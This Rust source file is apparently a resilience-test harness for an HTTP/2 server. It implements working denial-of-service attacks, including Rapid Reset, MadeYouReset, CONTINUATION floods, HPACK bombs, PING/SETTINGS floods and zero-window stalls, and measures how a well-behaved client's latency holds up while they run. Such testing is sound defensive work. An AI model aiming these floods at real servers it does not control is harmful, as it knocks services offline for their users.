//! `ropewalk-attacks`: runs known HTTP/2 attacks over real sockets against a
//! running h2c (prior knowledge) server while a well-behaved client measures
//! latency on its own connection. See README.md.

use std::collections::BTreeMap;
use std::io::{self, ErrorKind, Read, Write};
use std::net::{SocketAddr, TcpStream};
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::{Duration, Instant};

use bytes::{Bytes, BytesMut};
use http::Method;
use ropewalk_proto::conn::{Config, Connection, Error as ConnError, Event};
use ropewalk_proto::frame::{
    Continuation, Data, ErrorCode, Frame, Headers, PREFACE, Parser, Ping, Priority, PriorityUpdate,
    RstStream, Settings, StreamDependency, StreamId, WindowUpdate,
};
use ropewalk_proto::headers::RequestHead;

// ---------------------------------------------------------------- arguments

struct Args {
    target: SocketAddr,
    pid: Option<u32>,
    duration: Duration,
    only: Option<Vec<String>>,
    assert: bool,
    json: Option<String>,
    path: String,
    idle_conns: usize,
    attackers: usize,
    baseline: Option<Duration>,
}

fn parse_duration(s: &str) -> Result<Duration, String> {
    let s = s.trim();
    let (num, mul) = if let Some(n) = s.strip_suffix("ms") {
        (n, 0.001)
    } else if let Some(n) = s.strip_suffix('s') {
        (n, 1.0)
    } else if let Some(n) = s.strip_suffix('m') {
        (n, 60.0)
    } else {
        (s, 1.0)
    };
    let v: f64 = num.parse().map_err(|_| format!("bad duration {s:?}"))?;
    Ok(Duration::from_secs_f64(v * mul))
}

const USAGE: &str = "usage: ropewalk-attacks --target HOST:PORT [--server-pid PID] [--duration 3s] \
[--only NAME,...] [--assert] [--json FILE] [--path /hello] [--idle-conns 2000] [--attackers 1] [--baseline DUR] [--list]";

fn parse_args() -> Result<Args, String> {
    let mut it = std::env::args().skip(1);
    let mut target = None;
    let mut a = Args {
        target: "127.0.0.1:0".parse().unwrap(),
        pid: None,
        duration: Duration::from_secs(3),
        only: None,
        assert: false,
        json: None,
        path: "/hello".into(),
        idle_conns: 2000,
        attackers: 1,
        baseline: None,
    };
    while let Some(arg) = it.next() {
        let mut val = |name: &str| it.next().ok_or(format!("{name} needs a value"));
        match arg.as_str() {
            "--target" => target = Some(val("--target")?),
            "--server-pid" => {
                a.pid = Some(
                    val("--server-pid")?
                        .parse()
                        .map_err(|_| "bad --server-pid")?,
                )
            }
            "--duration" => a.duration = parse_duration(&val("--duration")?)?,
            "--only" => {
                a.only = Some(
                    val("--only")?
                        .split(',')
                        .map(|s| s.trim().to_string())
                        .filter(|s| !s.is_empty())
                        .collect(),
                )
            }
            "--assert" => a.assert = true,
            "--json" => a.json = Some(val("--json")?),
            "--path" => a.path = val("--path")?,
            "--idle-conns" => {
                a.idle_conns = val("--idle-conns")?
                    .parse()
                    .map_err(|_| "bad --idle-conns")?
            }
            "--attackers" => {
                a.attackers = val("--attackers")?.parse().map_err(|_| "bad --attackers")?
            }
            "--baseline" => a.baseline = Some(parse_duration(&val("--baseline")?)?),
            "--list" => {
                for at in ATTACKS {
                    println!("{:<22} {}", at.name, at.about);
                }
                std::process::exit(0);
            }
            "-h" | "--help" => {
                println!("{USAGE}");
                std::process::exit(0);
            }
            other => return Err(format!("unknown argument {other:?}\n{USAGE}")),
        }
    }
    let t = target.ok_or(format!("--target is required\n{USAGE}"))?;
    a.target = std::net::ToSocketAddrs::to_socket_addrs(&t)
        .map_err(|e| format!("--target {t}: {e}"))?
        .next()
        .ok_or("--target: no address")?;
    Ok(a)
}

// ---------------------------------------------------------------- /proc sampling

fn rss_kib(pid: u32) -> Option<u64> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/status")).ok()?;
    s.lines()
        .find(|l| l.starts_with("VmRSS:"))?
        .split_whitespace()
        .nth(1)?
        .parse()
        .ok()
}

/// utime + stime in seconds.
fn cpu_secs(pid: u32) -> Option<f64> {
    let s = std::fs::read_to_string(format!("/proc/{pid}/stat")).ok()?;
    let rest = &s[s.rfind(')')? + 2..];
    let f: Vec<&str> = rest.split_whitespace().collect();
    // fields after ')' start at field 3 (state); utime = 14, stime = 15.
    let ut: f64 = f.get(11)?.parse().ok()?;
    let st: f64 = f.get(12)?.parse().ok()?;
    Some((ut + st) / 100.0)
}

struct Monitor {
    stop: Arc<AtomicBool>,
    peak: Arc<AtomicU64>,
    handle: Option<thread::JoinHandle<()>>,
}

impl Monitor {
    fn start(pid: Option<u32>) -> Monitor {
        let stop = Arc::new(AtomicBool::new(false));
        let peak = Arc::new(AtomicU64::new(0));
        let handle = pid.map(|pid| {
            let (stop, peak) = (stop.clone(), peak.clone());
            thread::spawn(move || {
                while !stop.load(Ordering::Relaxed) {
                    if let Some(r) = rss_kib(pid) {
                        peak.fetch_max(r, Ordering::Relaxed);
                    }
                    thread::sleep(Duration::from_millis(50));
                }
            })
        });
        Monitor { stop, peak, handle }
    }
    fn finish(mut self) -> u64 {
        self.stop.store(true, Ordering::Relaxed);
        if let Some(h) = self.handle.take() {
            let _ = h.join();
        }
        self.peak.load(Ordering::Relaxed)
    }
}

// ---------------------------------------------------------------- well-behaved client

struct GoodClient {
    sock: TcpStream,
    conn: Connection,
    inbuf: BytesMut,
    authority: String,
}

impl GoodClient {
    fn connect(target: SocketAddr) -> io::Result<GoodClient> {
        let sock = TcpStream::connect_timeout(&target, Duration::from_secs(2))?;
        sock.set_nodelay(true)?;
        sock.set_read_timeout(Some(Duration::from_millis(5)))?;
        sock.set_write_timeout(Some(Duration::from_secs(2)))?;
        Ok(GoodClient {
            sock,
            conn: Connection::client(Config::default(), Instant::now()),
            inbuf: BytesMut::with_capacity(64 * 1024),
            authority: target.to_string(),
        })
    }

    fn flush(&mut self) -> Result<(), String> {
        let mut out = BytesMut::new();
        loop {
            out.clear();
            self.conn.poll_transmit_all(Instant::now(), &mut out);
            if out.is_empty() {
                return Ok(());
            }
            self.sock
                .write_all(&out)
                .map_err(|e| format!("write: {e}"))?;
        }
    }

    /// One GET; returns its latency.
    fn get(&mut self, path: &str, timeout: Duration) -> Result<Duration, String> {
        let start = Instant::now();
        let uri: http::Uri = format!("http://{}{}", self.authority, path)
            .parse()
            .map_err(|e| format!("uri: {e}"))?;
        let sid = self
            .conn
            .send_request(RequestHead::new(Method::GET, uri), true)
            .map_err(|e| format!("send_request: {e}"))?;
        let mut status = None;
        let mut buf = vec![0u8; 64 * 1024];
        loop {
            self.flush()?;
            let mut done = false;
            while let Some(ev) = self.conn.poll_event() {
                match ev {
                    Event::Response {
                        stream,
                        head,
                        end_stream,
                        ..
                    } if stream == sid => {
                        status = Some(head.status);
                        done |= end_stream;
                    }
                    Event::Data {
                        stream,
                        data,
                        end_stream,
                    } => {
                        self.conn.release_capacity(stream, data.len());
                        done |= stream == sid && end_stream;
                    }
                    Event::Trailers { stream, .. } if stream == sid => done = true,
                    Event::Reset {
                        error: ConnError::Stream { id, code, why, .. },
                    } if id == sid => {
                        return Err(format!("stream reset {code} {why}"));
                    }
                    Event::Closed { error } => return Err(format!("connection closed: {error}")),
                    _ => {}
                }
            }
            if done {
                return match status {
                    Some(s) if s.is_success() => Ok(start.elapsed()),
                    Some(s) => Err(format!("status {s}")),
                    None => Err("no response head".into()),
                };
            }
            if self.conn.is_closed() {
                return Err("connection closed".into());
            }
            if start.elapsed() > timeout {
                return Err("timeout".into());
            }
            match self.sock.read(&mut buf) {
                Ok(0) => return Err("EOF".into()),
                Ok(n) => {
                    self.inbuf.extend_from_slice(&buf[..n]);
                    self.conn.recv(&mut self.inbuf, Instant::now());
                }
                Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {}
                Err(e) => return Err(format!("read: {e}")),
            }
            let now = Instant::now();
            if self.conn.next_timeout().is_some_and(|t| t <= now) {
                self.conn.handle_timeout(now);
            }
        }
    }
}

#[derive(Default)]
struct LatencyStats {
    lat: Vec<Duration>,
    ok: u64,
    failed: u64,
    errors: BTreeMap<String, u64>,
}

impl LatencyStats {
    fn pct(&self, p: f64) -> Duration {
        if self.lat.is_empty() {
            return Duration::ZERO;
        }
        let mut v = self.lat.clone();
        v.sort();
        let i = ((v.len() as f64 - 1.0) * p).round() as usize;
        v[i.min(v.len() - 1)]
    }
}

/// Issues GETs back to back until `stop`, reconnecting on failure.
fn good_client(target: SocketAddr, path: String, stop: Arc<AtomicBool>) -> LatencyStats {
    let mut st = LatencyStats::default();
    let mut client: Option<GoodClient> = None;
    while !stop.load(Ordering::Relaxed) {
        if client.is_none() {
            let t0 = Instant::now();
            match GoodClient::connect(target) {
                Ok(c) => client = Some(c),
                Err(e) => {
                    st.failed += 1;
                    *st.errors.entry(format!("connect: {e}")).or_default() += 1;
                    // a failed request counts with the time it took
                    st.lat.push(t0.elapsed());
                    thread::sleep(Duration::from_millis(20));
                    continue;
                }
            }
        }
        let c = client.as_mut().unwrap();
        let t0 = Instant::now();
        match c.get(&path, Duration::from_secs(2)) {
            Ok(d) => {
                st.ok += 1;
                st.lat.push(d);
            }
            Err(e) => {
                st.failed += 1;
                st.lat.push(t0.elapsed());
                *st.errors.entry(e).or_default() += 1;
                client = None;
            }
        }
        thread::sleep(Duration::from_millis(2));
    }
    st
}

/// Legitimate load: GETs back to back, no pause, until `stop`; returns
/// how many succeeded.
fn busy_client(target: SocketAddr, path: String, stop: Arc<AtomicBool>) -> u64 {
    let mut ok = 0;
    let mut client: Option<GoodClient> = None;
    while !stop.load(Ordering::Relaxed) {
        if client.is_none() {
            match GoodClient::connect(target) {
                Ok(c) => client = Some(c),
                Err(_) => {
                    thread::sleep(Duration::from_millis(20));
                    continue;
                }
            }
        }
        let c = client.as_mut().unwrap();
        match c.get(&path, Duration::from_secs(2)) {
            Ok(_) => ok += 1,
            Err(_) => client = None,
        }
    }
    ok
}

fn final_check(target: SocketAddr, path: &str) -> Result<Duration, String> {
    let mut last = String::new();
    for _ in 0..3 {
        match GoodClient::connect(target) {
            Ok(mut c) => match c.get(path, Duration::from_secs(5)) {
                Ok(d) => return Ok(d),
                Err(e) => last = e,
            },
            Err(e) => last = format!("connect: {e}"),
        }
        thread::sleep(Duration::from_millis(200));
    }
    Err(last)
}

// ---------------------------------------------------------------- raw attacker connection

/// How one attacking connection ended.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
enum End {
    /// The server sent GOAWAY (code, debug text).
    GoAway(String, String),
    /// TCP FIN without GOAWAY.
    Closed,
    /// TCP RST (ECONNRESET / EPIPE).
    Reset,
    /// Writes blocked for a second: the server stopped reading us.
    Stalled,
    /// The time budget ran out with the connection still open.
    Budget,
    /// The attack finished its script and the server did not close within 1 s.
    NoReaction,
    /// Could not connect.
    ConnectFailed(String),
}

impl End {
    fn cut_off(&self) -> bool {
        matches!(
            self,
            End::GoAway(..) | End::Closed | End::Reset | End::Stalled
        )
    }
    fn describe(&self) -> String {
        match self {
            End::GoAway(c, d) if d.is_empty() => format!("GOAWAY {c}"),
            End::GoAway(c, d) => format!("GOAWAY {c} \"{d}\""),
            End::Closed => "TCP close".into(),
            End::Reset => "TCP reset".into(),
            End::Stalled => "write stalled".into(),
            End::Budget => "open at budget end".into(),
            End::NoReaction => "no reaction".into(),
            End::ConnectFailed(e) => format!("connect failed ({e})"),
        }
    }
}

#[derive(Default)]
struct AttackStats {
    ends: BTreeMap<End, u64>,
    connections: u64,
    rst_received: u64,
    frames_sent: u64,
    notes: Vec<String>,
}

struct Ctx {
    target: SocketAddr,
    deadline: Instant,
    stats: Mutex<AttackStats>,
    idle_conns: usize,
    attackers: usize,
}

impl Ctx {
    fn out_of_time(&self) -> bool {
        Instant::now() >= self.deadline
    }
    fn note(&self, s: String) {
        let mut st = self.stats.lock().unwrap();
        if !st.notes.contains(&s) {
            st.notes.push(s);
        }
    }
}

struct Raw {
    sock: TcpStream,
    inbuf: BytesMut,
    parser: Parser,
    end: Option<End>,
    goaway: Option<(String, String)>,
    rst: u64,
    sent_frames: u64,
    peer_settings: Option<Settings>,
    auto_ack: bool,
    authority: String,
}

fn is_reset(e: &io::Error) -> bool {
    matches!(
        e.kind(),
        ErrorKind::ConnectionReset | ErrorKind::BrokenPipe | ErrorKind::ConnectionAborted
    )
}

impl Raw {
    fn connect(ctx: &Ctx) -> Result<Raw, End> {
        let sock = TcpStream::connect_timeout(&ctx.target, Duration::from_secs(2))
            .map_err(|e| End::ConnectFailed(e.kind().to_string()))?;
        let _ = sock.set_nodelay(true);
        let _ = sock.set_write_timeout(Some(Duration::from_secs(1)));
        Ok(Raw {
            sock,
            inbuf: BytesMut::new(),
            parser: Parser::new(),
            end: None,
            goaway: None,
            rst: 0,
            sent_frames: 0,
            peer_settings: None,
            auto_ack: true,
            authority: ctx.target.to_string(),
        })
    }

    fn alive(&self) -> bool {
        self.end.is_none()
    }

    /// Writes bytes; false once the connection is over.
    fn send(&mut self, b: &[u8]) -> bool {
        if self.end.is_some() {
            return false;
        }
        match self.sock.write_all(b) {
            Ok(()) => true,
            Err(e) if matches!(e.kind(), ErrorKind::WouldBlock | ErrorKind::TimedOut) => {
                self.end = Some(End::Stalled);
                false
            }
            Err(e) if is_reset(&e) => {
                // the server may have sent GOAWAY before resetting
                let _ = self.pump();
                if self.end.is_none() || self.end == Some(End::Stalled) {
                    self.end = Some(End::Reset);
                }
                self.end = Some(self.end.take().unwrap());
                false
            }
            Err(_) => {
                self.end = Some(End::Reset);
                false
            }
        }
    }

    fn send_frames(&mut self, frames: &[Frame]) -> bool {
        let mut b = BytesMut::new();
        for f in frames {
            f.encode(&mut b);
        }
        self.sent_frames += frames.len() as u64;
        self.send(&b)
    }

    /// Client preface + SETTINGS (+ optional extra settings).
    fn handshake(&mut self, settings: Settings) -> bool {
        let mut b = BytesMut::from(&PREFACE[..]);
        settings.encode(&mut b);
        self.send(&b)
    }

    /// Non-blocking read of everything available; false once over.
    fn pump(&mut self) -> bool {
        if matches!(self.end, Some(End::Closed | End::Reset)) {
            return false;
        }
        let _ = self.sock.set_nonblocking(true);
        let mut buf = [0u8; 32 * 1024];
        let mut reply = BytesMut::new();
        loop {
            match self.sock.read(&mut buf) {
                Ok(0) => {
                    self.finish_with(End::Closed);
                    break;
                }
                Ok(n) => {
                    self.inbuf.extend_from_slice(&buf[..n]);
                    loop {
                        match self.parser.parse(&mut self.inbuf) {
                            Ok(Some(f)) => self.on_frame(f, &mut reply),
                            Ok(None) => break,
                            Err(_) => {
                                self.inbuf.clear();
                                self.parser = Parser::new();
                                break;
                            }
                        }
                    }
                    if self.inbuf.len() > 1 << 20 {
                        self.inbuf.clear();
                    }
                }
                Err(e) if e.kind() == ErrorKind::WouldBlock => break,
                Err(e) if e.kind() == ErrorKind::Interrupted => {}
                Err(_) => {
                    self.finish_with(End::Reset);
                    break;
                }
            }
        }
        let _ = self.sock.set_nonblocking(false);
        if !reply.is_empty() && self.end.is_none() {
            let _ = self.sock.write_all(&reply);
        }
        self.end.is_none()
    }

    fn finish_with(&mut self, how: End) {
        if let Some((c, d)) = self.goaway.clone() {
            self.end = Some(End::GoAway(c, d));
        } else if self.end.is_none() || self.end == Some(End::Stalled) {
            self.end = Some(how);
        }
    }

    fn on_frame(&mut self, f: Frame, reply: &mut BytesMut) {
        match f {
            Frame::GoAway(g) => {
                let code = g.error_code.to_string();
                let dbg: String = String::from_utf8_lossy(&g.debug_data)
                    .chars()
                    .take(60)
                    .collect();
                if self.goaway.is_none() || code != "NO_ERROR" {
                    self.goaway = Some((code, dbg));
                }
            }
            Frame::RstStream(_) => self.rst += 1,
            Frame::Settings(s) if !s.is_ack() => {
                self.peer_settings = Some(s);
                if self.auto_ack {
                    Settings::ack().encode(reply);
                }
            }
            _ => {}
        }
    }

    /// Waits up to `wait` (or the deadline) for the server to end the
    /// connection; returns how it ended.
    fn finish(mut self, ctx: &Ctx, wait: Duration, script_done: bool) -> (End, u64) {
        let until = (Instant::now() + wait).min(ctx.deadline + Duration::from_millis(300));
        while self.end.is_none() && Instant::now() < until {
            if !self.pump() {
                break;
            }
            thread::sleep(Duration::from_millis(10));
        }
        if self.end.is_none() {
            let _ = self.pump();
        }
        let end = match self.end.take() {
            Some(End::Stalled) => {
                // give a GOAWAY a chance to be read
                let _ = self.pump();
                match &self.goaway {
                    Some((c, d)) => End::GoAway(c.clone(), d.clone()),
                    None => End::Stalled,
                }
            }
            Some(e) => e,
            None => match &self.goaway {
                Some((c, d)) => End::GoAway(c.clone(), d.clone()),
                None if script_done && !ctx.out_of_time() => End::NoReaction,
                None => End::Budget,
            },
        };
        (end, self.rst)
    }

    fn max_concurrent(&self) -> u32 {
        self.peer_settings
            .as_ref()
            .and_then(|s| s.max_concurrent_streams())
            .unwrap_or(100)
    }

    /// Pumps until the server's SETTINGS arrived (or 1 s).
    fn await_settings(&mut self) {
        let t = Instant::now();
        while self.peer_settings.is_none() && self.pump() && t.elapsed() < Duration::from_secs(1) {
            thread::sleep(Duration::from_millis(2));
        }
    }
}

// ---------------------------------------------------------------- HPACK helpers

fn hpack_int(mut v: usize, prefix_bits: u8, first: u8, out: &mut Vec<u8>) {
    let max = (1usize << prefix_bits) - 1;
    if v < max {
        out.push(first | v as u8);
        return;
    }
    out.push(first | max as u8);
    v -= max;
    while v >= 128 {
        out.push((v % 128) as u8 | 0x80);
        v /= 128;
    }
    out.push(v as u8);
}

fn hpack_str(s: &[u8], out: &mut Vec<u8>) {
    hpack_int(s.len(), 7, 0, out);
    out.extend_from_slice(s);
}

/// Pseudo-headers of a request, none of them added to the dynamic table.
fn pseudo(method_post: bool, path: &str, authority: &str) -> Vec<u8> {
    let mut b = Vec::new();
    b.push(if method_post { 0x83 } else { 0x82 });
    b.push(0x86); // :scheme http
    b.push(0x04); // :path, literal without indexing, indexed name 4
    hpack_str(path.as_bytes(), &mut b);
    b.push(0x01); // :authority
    hpack_str(authority.as_bytes(), &mut b);
    b
}

fn headers_frame(id: u32, block: Vec<u8>, end_stream: bool, end_headers: bool) -> Frame {
    let mut h = Headers::new(StreamId::new(id), Bytes::from(block));
    h.set_end_stream(end_stream);
    h.set_end_headers(end_headers);
    h.into()
}

/// Raw frame with any header values.
fn raw_frame(len: u32, kind: u8, flags: u8, id: u32, payload: &[u8], out: &mut BytesMut) {
    out.extend_from_slice(&len.to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&id.to_be_bytes());
    out.extend_from_slice(payload);
}

struct Rng(u64);
impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    fn fill(&mut self, n: usize) -> Vec<u8> {
        (0..n).map(|_| self.next() as u8).collect()
    }
}

// ---------------------------------------------------------------- attacks

type SessionFn = fn(&Ctx, &mut Raw, &mut Rng, u64) -> bool;

/// Runs `session` on fresh connections until the deadline; `wait` is how
/// long to wait for the server's reaction after a script finishes.
fn attacker(ctx: &Ctx, seed: u64, wait: Duration, session: SessionFn) {
    thread::scope(|s| {
        for i in 0..ctx.attackers.max(1) {
            s.spawn(move || attacker_one(ctx, seed.wrapping_add(i as u64 * 7919), wait, session));
        }
    });
}

fn attacker_one(ctx: &Ctx, seed: u64, wait: Duration, session: SessionFn) {
    let mut rng = Rng(seed | 1);
    let mut n = 0u64;
    while !ctx.out_of_time() {
        let mut raw = match Raw::connect(ctx) {
            Ok(r) => r,
            Err(e) => {
                let mut st = ctx.stats.lock().unwrap();
                *st.ends.entry(e).or_default() += 1;
                drop(st);
                thread::sleep(Duration::from_millis(50));
                continue;
            }
        };
        let script_done = session(ctx, &mut raw, &mut rng, n);
        let sent = raw.sent_frames;
        let (end, rst) = raw.finish(ctx, wait, script_done);
        let mut st = ctx.stats.lock().unwrap();
        *st.ends.entry(end).or_default() += 1;
        st.connections += 1;
        st.rst_received += rst;
        st.frames_sent += sent;
        n += 1;
    }
}

fn get_block(raw: &Raw, path: &str) -> Vec<u8> {
    pseudo(false, path, &raw.authority)
}

/// 1. Rapid Reset: HEADERS then RST_STREAM, as fast as possible.
fn rapid_reset(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    if !raw.handshake(Settings::default()) {
        return false;
    }
    let block = get_block(raw, "/hello");
    let mut id = 1u32;
    while !ctx.out_of_time() && raw.alive() {
        let mut fr = Vec::with_capacity(200);
        for _ in 0..100 {
            fr.push(headers_frame(id, block.clone(), true, true));
            fr.push(RstStream::new(StreamId::new(id), ErrorCode::Cancel).into());
            id += 2;
        }
        if !raw.send_frames(&fr) || !raw.pump() {
            break;
        }
    }
    false
}

/// 2. MadeYouReset: frames that make the server reset streams.
fn made_you_reset(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    if !raw.handshake(Settings::default()) {
        return false;
    }
    let post = pseudo(true, "/echo", &raw.authority);
    // ROPEWALK_ATTACKS_MYR_PATH overrides the half-closed request's path (diagnosis)
    let slow_path = std::env::var("ROPEWALK_ATTACKS_MYR_PATH").unwrap_or("/slow?ms=2000".into());
    let slow = get_block(raw, &slow_path);
    let mut id = 1u32;
    while !ctx.out_of_time() && raw.alive() {
        let mut fr = Vec::with_capacity(200);
        for i in 0..50 {
            if i % 2 == 0 {
                // open stream, then WINDOW_UPDATE of 0 on it -> stream error
                fr.push(headers_frame(id, post.clone(), false, true));
                fr.push(WindowUpdate::new(StreamId::new(id), 0).into());
            } else {
                // half-closed (remote) stream, then DATA on it -> STREAM_CLOSED
                fr.push(headers_frame(id, slow.clone(), true, true));
                fr.push(Data::new(StreamId::new(id), Bytes::from_static(b"x")).into());
            }
            id += 2;
        }
        if !raw.send_frames(&fr) || !raw.pump() {
            break;
        }
    }
    false
}

/// 3. CONTINUATION flood: endless CONTINUATION without END_HEADERS
///    (full frames of literal fields on even sessions, empty frames on odd).
fn continuation_flood(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, n: u64) -> bool {
    // No SETTINGS ACK may land between HEADERS and its CONTINUATIONs (RFC
    // 9113 §6.10): that would end the connection for the wrong reason.
    raw.auto_ack = false;
    if !raw.handshake(Settings::default()) {
        return false;
    }
    let first = get_block(raw, "/hello");
    if !raw.send_frames(&[headers_frame(1, first, true, false)]) {
        return false;
    }
    let mut chunk = Vec::with_capacity(16384);
    if n % 2 == 0 {
        let mut i = 0u32;
        while chunk.len() < 16_000 {
            chunk.push(0x00);
            hpack_str(format!("x-c{i}").as_bytes(), &mut chunk);
            hpack_str(&[b'a'; 100], &mut chunk);
            i += 1;
        }
    }
    let chunk = Bytes::from(chunk);
    while !ctx.out_of_time() && raw.alive() {
        let fr: Vec<Frame> = (0..if chunk.is_empty() { 1000 } else { 16 })
            .map(|_| Continuation::new(StreamId::new(1), chunk.clone(), false).into())
            .collect();
        if !raw.send_frames(&fr) || !raw.pump() {
            break;
        }
    }
    false
}

/// 3b. Slow header trickle: a header block that never ends, one small
///    (non-empty, individually complete) CONTINUATION every 500 ms — no
///    incomplete frame ever waits, and 20 frames per 10 s stay under the
///    CONTINUATION count limit; only a header-block deadline cuts it
///    (RFC 9113 §10.5; ropewalk: `Limits::header_block_timeout`, 10 s).
fn slow_headers(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    if !raw.handshake(Settings::default()) {
        return false;
    }
    // The server's SETTINGS acknowledged first: no frame of ours may come
    // between HEADERS and its CONTINUATIONs (RFC 9113 §6.10).
    raw.await_settings();
    raw.auto_ack = false;
    // :method GET, then (in CONTINUATIONs) accept-encoding, over and over
    if !raw.send_frames(&[headers_frame(1, vec![0x82], true, false)]) {
        return false;
    }
    while !ctx.out_of_time() && raw.alive() {
        let f: Frame =
            Continuation::new(StreamId::new(1), Bytes::from_static(&[0x90]), false).into();
        if !raw.send_frames(&[f]) {
            break;
        }
        for _ in 0..10 {
            if ctx.out_of_time() || !raw.pump() {
                return false;
            }
            thread::sleep(Duration::from_millis(50));
        }
    }
    false
}

/// Duration from which `--assert` expects the slow header trickle to be cut
/// (ropewalk's default header-block timeout, 10 s, plus slack).
const SLOW_HEADERS_ASSERT_FROM: Duration = Duration::from_secs(12);

/// 4. HPACK bomb: a 4000-byte entry inserted once then referenced ~64000
///    times per block; alternating with blocks of 16000 tiny indexed fields.
fn hpack_bomb(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    if !raw.handshake(Settings::default()) {
        return false;
    }
    let mut id = 1u32;
    // insert the big entry (incremental indexing, new name) on stream 1
    let mut b = get_block(raw, "/hello");
    b.push(0x40);
    hpack_str(b"x-bomb", &mut b);
    hpack_str(&[b'B'; 4000], &mut b);
    if !raw.send_frames(&[headers_frame(id, b, true, true)]) {
        return false;
    }
    id += 2;
    let refs = vec![0xBEu8; 16_000]; // index 62 = newest dynamic entry
    let tiny = vec![0x90u8; 16_000]; // static 16: accept-encoding: gzip, deflate
    let mut k = 0u64;
    while !ctx.out_of_time() && raw.alive() {
        let mut fr = Vec::new();
        let mut head = get_block(raw, "/hello");
        if k % 2 == 0 {
            head.extend_from_slice(&refs[..16_000 - head.len()]);
            fr.push(headers_frame(id, head, true, false));
            for j in 0..3 {
                fr.push(
                    Continuation::new(StreamId::new(id), Bytes::from(refs.clone()), j == 2).into(),
                );
            }
        } else {
            head.extend_from_slice(&tiny[..16_000 - head.len()]);
            fr.push(headers_frame(id, head, true, true));
        }
        k += 1;
        id += 2;
        if !raw.send_frames(&fr) || !raw.pump() {
            break;
        }
    }
    false
}

/// 5. Ping flood and SETTINGS flood while never reading.
fn ping_settings_flood(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    raw.auto_ack = false;
    if !raw.handshake(Settings::default()) {
        return false;
    }
    let mut s = Settings::default();
    s.set_initial_window_size(Some(65_535));
    let mut one = BytesMut::new();
    for i in 0..500u64 {
        Ping::new(i.to_be_bytes()).encode(&mut one);
        s.encode(&mut one);
    }
    while !ctx.out_of_time() && raw.alive() {
        raw.sent_frames += 1000;
        if !raw.send(&one) {
            break;
        }
    }
    false
}

/// 6. Empty frames flood (empty DATA on an open stream, empty HEADERS +
///    empty CONTINUATION) and requests with a 0-length header name.
fn empty_frames(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    if !raw.handshake(Settings::default()) {
        return false;
    }
    let post = pseudo(true, "/echo", &raw.authority);
    if !raw.send_frames(&[headers_frame(1, post, false, true)]) {
        return false;
    }
    let mut id = 3u32;
    while !ctx.out_of_time() && raw.alive() {
        let mut fr: Vec<Frame> = (0..1000)
            .map(|_| Data::new(StreamId::new(1), Bytes::new()).into())
            .collect();
        // a request whose field name is empty
        let mut b = get_block(raw, "/hello");
        b.push(0x00);
        hpack_str(b"", &mut b);
        hpack_str(b"v", &mut b);
        fr.push(headers_frame(id, b, true, true));
        id += 2;
        // empty HEADERS + 50 empty CONTINUATION, then the real block
        fr.push(headers_frame(id, Vec::new(), true, false));
        for _ in 0..50 {
            fr.push(Continuation::new(StreamId::new(id), Bytes::new(), false).into());
        }
        fr.push(
            Continuation::new(
                StreamId::new(id),
                Bytes::from(get_block(raw, "/hello")),
                true,
            )
            .into(),
        );
        id += 2;
        if !raw.send_frames(&fr) || !raw.pump() {
            break;
        }
    }
    false
}

/// 7a. Zero-window stall: INITIAL_WINDOW_SIZE 0, request large bodies,
///    never open the window.
fn zero_window(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    let mut s = Settings::default();
    s.set_initial_window_size(Some(0));
    if !raw.handshake(s) {
        return false;
    }
    raw.await_settings();
    let n = raw.max_concurrent().min(1000);
    let mut fr = Vec::new();
    let blk = get_block(raw, "/big?size=10000000");
    for i in 0..n {
        fr.push(headers_frame(1 + 2 * i, blk.clone(), true, true));
    }
    if !raw.send_frames(&fr) {
        return false;
    }
    while !ctx.out_of_time() && raw.pump() {
        thread::sleep(Duration::from_millis(20));
    }
    false
}

/// 7b. Data dribble: window 0, then one byte of window per stream at a time.
fn dribble(ctx: &Ctx, raw: &mut Raw, _: &mut Rng, _: u64) -> bool {
    let mut s = Settings::default();
    s.set_initial_window_size(Some(0));
    if !raw.handshake(s) {
        return false;
    }
    raw.await_settings();
    let n = raw.max_concurrent().min(1000);
    let blk = get_block(raw, "/big?size=10000000");
    let fr: Vec<Frame> = (0..n)
        .map(|i| headers_frame(1 + 2 * i, blk.clone(), true, true))
        .collect();
    if !raw.send_frames(&fr) {
        return false;
    }
    while !ctx.out_of_time() && raw.alive() {
        let mut fr: Vec<Frame> = (0..n)
            .map(|i| WindowUpdate::new(StreamId::new(1 + 2 * i), 1).into())
            .collect();
        fr.push(WindowUpdate::new(StreamId::ZERO, n).into());
        if !raw.send_frames(&fr) || !raw.pump() {
            break;
        }
        thread::sleep(Duration::from_millis(10));
    }
    false
}

/// 8. Priority churn: PRIORITY and PRIORITY_UPDATE frames for thousands of
///    idle streams.
fn priority_churn(ctx: &Ctx, raw: &mut Raw, rng: &mut Rng, _: u64) -> bool {
    if !raw.handshake(Settings::default()) {
        return false;
    }
    let mut base = 1u32;
    while !ctx.out_of_time() && raw.alive() {
        let mut fr = Vec::with_capacity(2000);
        for i in 0..1000u32 {
            let id = base + 2 * i;
            let dep = (rng.next() as u32 % 20_000) | 1;
            fr.push(
                Priority::new(
                    StreamId::new(id),
                    StreamDependency {
                        dependency: StreamId::new(if dep == id { 0 } else { dep }),
                        weight: rng.next() as u8,
                        exclusive: rng.next() % 2 == 0,
                    },
                )
                .into(),
            );
            let v = format!("u={}, i", rng.next() % 8);
            fr.push(PriorityUpdate::new(StreamId::new(id), Bytes::from(v)).into());
        }
        base = if base > 1_000_000 { 1 } else { base + 2000 };
        if !raw.send_frames(&fr) || !raw.pump() {
            break;
        }
    }
    false
}

